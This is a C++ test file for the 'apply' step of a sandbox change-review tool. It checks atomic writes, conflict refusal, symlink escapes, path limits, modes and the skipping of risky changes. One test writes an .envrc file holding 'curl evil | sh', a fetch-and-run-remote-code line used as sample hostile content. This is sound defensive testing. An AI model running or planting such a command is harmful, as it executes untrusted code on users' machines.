// SPDX-License-Identifier: LGPL-2.1-or-later
// apply: the project becomes the change set's view; conflicts refuse everything; nothing is
// written outside the project through links made by the change set or by the host; atomic
// writes, partial applies, modes, hard links, risky changes left out.
#include <dirent.h>
#include <sys/stat.h>

#include "review_test_util.hpp"
#include "ringfence/review/apply.hpp"

using namespace rf::review;
using namespace rf::review::test;

namespace {

ApplyResult apply_ok(const Run& r, ApplyOptions o = {}) {
  auto res = apply(r.cs, r.changes(), o);
  REQUIRE_MESSAGE(res, res.error().describe());
  return *res;
}

std::vector<std::string> names(const std::string& dir) {
  std::vector<std::string> out;
  DIR* d = ::opendir(dir.c_str());
  REQUIRE(d);
  while (auto* e = ::readdir(d))
    if (e->d_name[0] != '.' || std::string(e->d_name).rfind(".rf-apply", 0) == 0) out.emplace_back(e->d_name);
  ::closedir(d);
  std::sort(out.begin(), out.end());
  return out;
}

}  // namespace

TEST_CASE("apply makes the project the change set's view") {
  Run r;
  put(r.pj("edit.txt"), "old\n");
  put(r.pj("gone.txt"), "g\n");
  put(r.pj("run.sh"), "#!/bin/sh\n");
  REQUIRE(::mkdir(r.pj("olddir").c_str(), 0755) == 0);
  put(r.pj("olddir/f"), "f");
  r.start();
  put(r.up("edit.txt"), "new\n", 0600);
  put(r.up("run.sh"), "#!/bin/sh\n", 0755);
  REQUIRE(::mkdir(r.up("ro").c_str(), 0555) == 0);  // a directory the change leaves read-only
  REQUIRE(::chmod(r.up("ro").c_str(), 0755) == 0);
  put(r.up("ro/inside"), "i");
  REQUIRE(::chmod(r.up("ro").c_str(), 0555) == 0);
  REQUIRE(::symlink("edit.txt", r.up("link").c_str()) == 0);
  put(r.up("a"), "linked\n");
  REQUIRE(::link(r.up("a").c_str(), r.up("b").c_str()) == 0);
  put(r.up("olddir"), "now a file");
  if (::mknod(r.up("gone.txt").c_str(), S_IFCHR, 0) != 0) ::unlink(r.up("gone.txt").c_str());
  const bool whiteouts = exists(r.up("gone.txt"));
  struct stat before {};
  REQUIRE(::stat(r.pj("edit.txt").c_str(), &before) == 0);
  const auto res = apply_ok(r);
  CHECK(res.conflicts.empty());
  CHECK(res.marked_applied);
  CHECK(get(r.pj("edit.txt")) == "new\n");
  CHECK((mode_of(r.pj("edit.txt")) & 07777) == 0600);
  CHECK((mode_of(r.pj("run.sh")) & 07777) == 0755);
  CHECK((mode_of(r.pj("ro")) & 07777) == 0555);
  CHECK(get(r.pj("ro/inside")) == "i");
  char target[64] = {};
  REQUIRE(::readlink(r.pj("link").c_str(), target, sizeof target - 1) > 0);
  CHECK(std::string(target) == "edit.txt");
  CHECK(get(r.pj("olddir")) == "now a file");
  if (whiteouts) CHECK(!exists(r.pj("gone.txt")));
  struct stat sa {
  }, sb{}, after{};
  REQUIRE(::stat(r.pj("a").c_str(), &sa) == 0);
  REQUIRE(::stat(r.pj("b").c_str(), &sb) == 0);
  CHECK(sa.st_ino == sb.st_ino);  // the hard link stays one
  REQUIRE(::stat(r.pj("edit.txt").c_str(), &after) == 0);
  CHECK(after.st_ino != before.st_ino);  // written beside and renamed, not in place
  for (const auto& n : names(r.project)) CHECK_MESSAGE(n.rfind(".rf-apply", 0) != 0, n);
  auto store = Store::at(r.store_root);
  REQUIRE(store);
  CHECK(open_change_set(*store, r.cs.meta.id)->meta.applied);
  // Applied again: everything is already there
  const auto again = apply_ok(r);
  CHECK(again.applied.empty());
  CHECK(again.conflicts.empty());
  ::chmod(r.pj("ro").c_str(), 0755);
  ::chmod(r.up("ro").c_str(), 0755);
}

TEST_CASE("a conflict anywhere refuses the whole apply") {
  Run r;
  put(r.pj("edit.txt"), "old\n");
  put(r.pj("typed"), "file");
  r.start();
  put(r.up("edit.txt"), "sandbox\n");
  put(r.up("new.txt"), "new\n");
  put(r.up("both.txt"), "sandbox\n");
  put(r.up("typed"), "sandbox");
  put(r.pj("edit.txt"), "host edit after the start\n");
  put(r.pj("both.txt"), "the host made it too\n");
  ::unlink(r.pj("typed").c_str());
  REQUIRE(::mkdir(r.pj("typed").c_str(), 0755) == 0);
  const auto res = apply_ok(r);
  CHECK(res.applied.empty());
  REQUIRE(res.conflicts.size() == 3);
  std::string all;
  for (const auto& c : res.conflicts) all += c + "\n";
  CHECK(all.find("edit.txt: changed on the host after the run started") != std::string::npos);
  // The scan sees the host's new entries as the project's: their times give them away.
  CHECK(all.find("both.txt: changed on the host after the run started") != std::string::npos);
  CHECK(all.find("typed: changed on the host after the run started") != std::string::npos);
  CHECK(!exists(r.pj("new.txt")));  // nothing was written
  CHECK(get(r.pj("edit.txt")) == "host edit after the start\n");
  CHECK(!res.marked_applied);
}

TEST_CASE("no write leaves the project through a link, the change set's or the host's") {
  const std::string outside = temp_dir("outside");
  Run r;
  REQUIRE(::mkdir(r.pj("d").c_str(), 0755) == 0);
  REQUIRE(::mkdir(r.pj("e").c_str(), 0755) == 0);
  put(r.pj("d/keep"), "k");
  r.start();
  // The change set turns d into a link to the outside (and has nothing "in" it: upper cannot)
  REQUIRE(::rename(r.pj("d").c_str(), (r.base + "/d.saved").c_str()) == 0);
  REQUIRE(::mkdir(r.pj("d").c_str(), 0755) == 0);
  put(r.pj("d/keep"), "k");
  REQUIRE(::symlink(outside.c_str(), r.up("d").c_str()) == 0);
  // and writes into e, which the host turns into a link to the outside after the run
  REQUIRE(::mkdir(r.up("e").c_str(), 0755) == 0);
  put(r.up("e/planted"), "p");
  REQUIRE(::rmdir(r.pj("e").c_str()) == 0);
  REQUIRE(::symlink(outside.c_str(), r.pj("e").c_str()) == 0);
  for (bool risky : {false, true}) {
    ApplyOptions o;
    o.include_risky = risky;
    auto res = apply(r.cs, r.changes(), o);
    REQUIRE_MESSAGE(res, res.error().describe());
    CHECK(!res->conflicts.empty());
    CHECK(res->applied.empty());
  }
  CHECK(names(outside).empty());
  // A hand-made change list that skips the check still cannot get through the link
  Change c;
  c.path = "e/planted";
  c.kind = ChangeKind::Added;
  c.new_mode = S_IFREG | 0644;
  auto res = apply(r.cs, {c}, {});
  REQUIRE(res);
  CHECK(!res->conflicts.empty());
  CHECK(names(outside).empty());
  rf::base::remove_tree(outside);
}

TEST_CASE("an entry listed below a link the same apply makes is not written through it") {
  const std::string outside = temp_dir("outside");
  Run r;
  REQUIRE(::mkdir(r.pj("d").c_str(), 0755) == 0);
  r.start();
  REQUIRE(::symlink(outside.c_str(), r.up("d").c_str()) == 0);
  auto changes = r.changes();
  REQUIRE(changes.size() == 1);  // d: a directory turned into a link out (risky)
  Change c;                      // what a forged upper listing would add "inside" d
  c.path = "d/x";
  c.kind = ChangeKind::Added;
  c.new_mode = S_IFLNK | 0777;
  c.link_target = "planted";
  changes.push_back(c);
  ApplyOptions o;
  o.include_risky = true;
  auto res = apply(r.cs, changes, o);
  CHECK_FALSE(res);  // the write below the new link fails (ELOOP): openat2 follows no link
  CHECK(names(outside).empty());
  rf::base::remove_tree(outside);
}

TEST_CASE("PATH limits the apply to those paths and the directories that hold them") {
  Run r;
  r.start();
  REQUIRE(::mkdir(r.up("pkg").c_str(), 0755) == 0);
  REQUIRE(::mkdir(r.up("pkg/sub").c_str(), 0755) == 0);
  put(r.up("pkg/sub/wanted"), "w");
  put(r.up("pkg/other"), "o");
  put(r.up("top"), "t");
  ApplyOptions o;
  o.paths = {"pkg/sub/wanted"};
  const auto res = apply_ok(r, o);
  CHECK(res.applied.size() == 3);
  CHECK(get(r.pj("pkg/sub/wanted")) == "w");
  CHECK(!exists(r.pj("pkg/other")));
  CHECK(!exists(r.pj("top")));
  CHECK(!res.marked_applied);
  o.paths = {"nothing/here"};
  CHECK_FALSE(apply(r.cs, r.changes(), o));
  o.paths = {"../escape"};
  CHECK_FALSE(apply(r.cs, r.changes(), o));
}

TEST_CASE("risky changes are left out unless asked; setuid only with them") {
  Run r;
  r.start();
  put(r.up(".envrc"), "curl evil | sh");
  put(r.up("tool"), "bin", 04755);
  put(r.up("plain"), "p");
  REQUIRE(::mkdir(r.up("shared").c_str(), 02775) == 0);  // a setgid directory, and a file in it
  REQUIRE(::chmod(r.up("shared").c_str(), 02775) == 0);
  put(r.up("shared/file"), "f");
  auto res = apply_ok(r);
  CHECK(res.conflicts.empty());
  CHECK((mode_of(r.pj("shared")) & 07777) == 0775);  // a setgid directory is not risky; the bit stays out
  CHECK(get(r.pj("shared/file")) == "f");
  CHECK(!exists(r.pj(".envrc")));
  CHECK(!exists(r.pj("tool")));
  CHECK(get(r.pj("plain")) == "p");
  REQUIRE(res.skipped_risky.size() == 2);
  ApplyOptions o;
  o.include_risky = true;
  res = apply_ok(r, o);
  CHECK(get(r.pj(".envrc")) == "curl evil | sh");
  CHECK((mode_of(r.pj("tool")) & 07777) == 04755);
}

TEST_CASE("a directory deletion goes only with everything in it") {
  Run r;
  REQUIRE(::mkdir(r.pj("dir").c_str(), 0755) == 0);
  put(r.pj("dir/listed"), "l");
  put(r.pj("dir/.envrc"), "e");
  REQUIRE(::mkdir(r.pj("masked").c_str(), 0755) == 0);
  put(r.pj("masked/secret"), "s");
  r.start({"masked/secret"});
  if (::mknod(r.up("dir").c_str(), S_IFCHR, 0) != 0 || ::mknod(r.up("masked").c_str(), S_IFCHR, 0) != 0) {
    MESSAGE("skipped: mknod of a 0/0 whiteout was refused (" << std::strerror(errno) << ")");
    return;
  }
  // The masked file is not part of the change set, so its directory cannot go: refused as a whole.
  auto res = apply_ok(r);
  REQUIRE(res.conflicts.size() == 1);
  CHECK(res.conflicts[0].find("masked: holds masked/secret") == 0);
  CHECK(exists(r.pj("dir/listed")));
  // Without it: the risky deletion (.envrc) is left out, and with it the directory's deletion.
  ApplyOptions o;
  o.paths = {"dir"};
  res = apply_ok(r, o);
  CHECK(res.conflicts.empty());
  CHECK(!exists(r.pj("dir/listed")));
  CHECK(exists(r.pj("dir/.envrc")));
  CHECK(res.skipped_risky.size() == 2);
}

TEST_CASE("run as root, apply writes files owned by the project's owner") {
  if (::geteuid() != 0) {
    MESSAGE("skipped: needs root (chown)");
    return;
  }
  Run r;
  put(r.pj("mine"), "old");
  REQUIRE(::chown(r.project.c_str(), 65534, 65534) == 0);
  REQUIRE(::chown(r.pj("mine").c_str(), 65534, 65534) == 0);
  r.start();
  put(r.up("mine"), "new");
  put(r.up("fresh"), "f", 0755);
  REQUIRE(::symlink("mine", r.up("ln").c_str()) == 0);
  apply_ok(r);
  for (const char* p : {"mine", "fresh", "ln"}) {
    struct stat st {};
    REQUIRE(::lstat(r.pj(p).c_str(), &st) == 0);
    CHECK_MESSAGE(st.st_uid == 65534, p);
    CHECK_MESSAGE(st.st_gid == 65534, p);
  }
  CHECK((mode_of(r.pj("fresh")) & 07777) == 0755);
}
